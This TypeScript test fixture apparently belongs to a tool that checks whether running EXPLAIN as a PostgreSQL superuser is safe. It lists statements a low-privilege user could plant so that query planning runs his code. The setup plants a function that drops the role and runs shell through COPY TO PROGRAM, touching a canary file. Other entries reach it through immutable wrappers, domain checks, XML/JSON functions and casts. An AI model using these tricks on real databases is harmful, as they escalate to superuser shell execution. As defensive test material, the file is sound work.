/** What somebody without any right but to make things prepares, so that EXPLAIN by a superuser would run his code. */
export interface HostileStatement {
  name: string
  /** What he makes first; `super:` before it: made by a superuser, who means no harm. */
  makes?: string[]
  /** What is explained. */
  query: string
  /** Whether PostgreSQL itself runs his code when a superuser plans this: true, false, or from that major on. */
  fires: boolean | number
  since?: number
  /** What would stand in the way of every other. */
  undo?: string
  /** Whose search_path. */
  as?: 'shade'
}

/**
 * public is his, and the database. shot() writes a file by COPY TO PROGRAM, with whatever role stands behind the session: what
 * counts is whether that file is there. Functions that are not VOLATILE cannot do it themselves, but may call what can.
 */
export const GROUND = [
  `create function public.shot() returns boolean volatile language plpgsql as $$ begin perform set_config('role', 'none', true); copy (select 1) to program 'cat > /dev/null; touch proctor_canary'; return true; exception when others then return true; end $$`,
  `create function public.trap(text) returns boolean immutable language plpgsql as 'begin return public.shot(); end'`,
  `create function public.trap_number(int) returns int immutable language plpgsql as 'begin perform public.shot(); return $1; end'`,
  `create view public.trapped as select public.trap('x') as hit`,
  'create table public.bait (id int primary key, n int, note text, at timestamptz, r int4range)',
  `insert into public.bait select g, g % 9, 'n' || g, now(), int4range(g, g + 5) from generate_series(1, 200) g`,
  'analyze public.bait',
  'create domain public.checked as text check (public.trap(value))',
  'create type public.holder as (a public.checked)',
  `create type public.mood as enum ('good', 'bad')`,
  'create schema shadow',
  'create schema lonely',
  'create view lonely.trapped as select * from public.trapped',
]

const view = (select: string): Pick<HostileStatement, 'makes' | 'query'> => ({
  makes: [`create or replace view public.lure as ${select}`],
  query: 'select * from public.lure',
})
const ofTable = 'select id from public.bait where note = '

/** Functions of PostgreSQL's, or of an extension's, that do the rest; types and casts. */
export const HOSTILE_CALLS: HostileStatement[] = [
  { name: 'table_to_xml in a view', ...view(`${ofTable} table_to_xml('public.trapped', true, true, '')::text`), fires: true },
  {
    name: 'table_to_xml_and_xmlschema',
    ...view(`${ofTable} table_to_xml_and_xmlschema('public.trapped', true, true, '')::text`),
    fires: true,
  },
  { name: 'schema_to_xml', ...view(`${ofTable} schema_to_xml('lonely', true, true, '')::text`), fires: true },
  { name: 'database_to_xml', query: `${ofTable} database_to_xml(true, true, '')::text`, fires: true },
  {
    name: 'a view of a view',
    makes: [
      `create or replace view public.lure as ${ofTable} table_to_xml('public.trapped', true, true, '')::text`,
      'create view public.lure_of_lure as select * from public.lure',
    ],
    query: 'select * from public.lure_of_lure',
    fires: true,
  },
  {
    name: 'a type named to pg_input_is_valid',
    ...view(`select id from public.bait where note = pg_input_is_valid('{x}', 'public.checked[]')::text`),
    fires: true,
    since: 16,
  },
  {
    name: 'a type named to pg_input_error_info',
    query: `select * from pg_input_error_info('{x}', 'public.checked[]')`,
    fires: false,
    since: 16,
  },
  {
    name: 'a type given to domain_in',
    ...view(`select id from public.bait where note = concat(domain_in('x', 'public.checked'::regtype, -1))`),
    fires: true,
  },
  {
    name: 'a type given to array_in',
    ...view(`select id from public.bait where note = array_in('{x}', 'public.checked'::regtype, -1)::text`),
    fires: true,
  },
  {
    name: 'a type given to record_in',
    ...view(`select id from public.bait where note = record_in('(x)', 'public.holder'::regtype, -1)::text`),
    fires: false,
  },
  {
    name: 'a constant of an array of a domain',
    query: `select id from public.bait where note = any ('{x}'::public.checked[]::text[])`,
    fires: true,
  },
  { name: 'a constant of a composite type', query: `select id from public.bait where ('(x)'::public.holder) is null`, fires: true },
  {
    name: 'json_populate_record',
    ...view(`select id from public.bait where note = (json_populate_record(null::public.holder, '{"a":"x"}')).a`),
    fires: true,
  },
  { name: 'json_to_record', query: `select * from json_to_record('{"a":"x"}') as (a public.checked)`, fires: false },
  { name: 'xmltable', query: `select * from xmltable('/a' passing '<a/>' columns a public.checked)`, fires: false },
  { name: 'json_table', query: `select * from json_table('{"a":1}', '$' columns (a public.checked path '$.a'))`, fires: false, since: 17 },
  { name: 'json_value', query: `select json_value('{"a":1}', '$.a' returning public.checked)`, fires: false, since: 17 },
  {
    name: "hstore's populate_record",
    query: `select id from public.bait where note = (public.populate_record(null::public.holder, 'a=>x'::public.hstore)).a`,
    fires: true,
  },
  {
    name: 'a cast to json',
    makes: [
      `create function public.as_json(public.mood) returns json immutable language plpgsql as 'begin perform public.shot(); return null; end'`,
      'create cast (public.mood as json) with function public.as_json(public.mood)',
    ],
    query: `select id from public.bait where note = to_json('good'::public.mood)::text`,
    undo: 'drop cast (public.mood as json)',
    fires: true,
  },
  {
    name: 'a cast of an array',
    makes: [
      `create function public.as_text(public.mood[]) returns text immutable language plpgsql as 'begin perform public.shot(); return null; end'`,
      'create cast (public.mood[] as text) with function public.as_text(public.mood[])',
    ],
    query: `select id from public.bait where note = array['good'::public.mood]::text`,
    undo: 'drop cast (public.mood[] as text)',
    fires: true,
  },
]
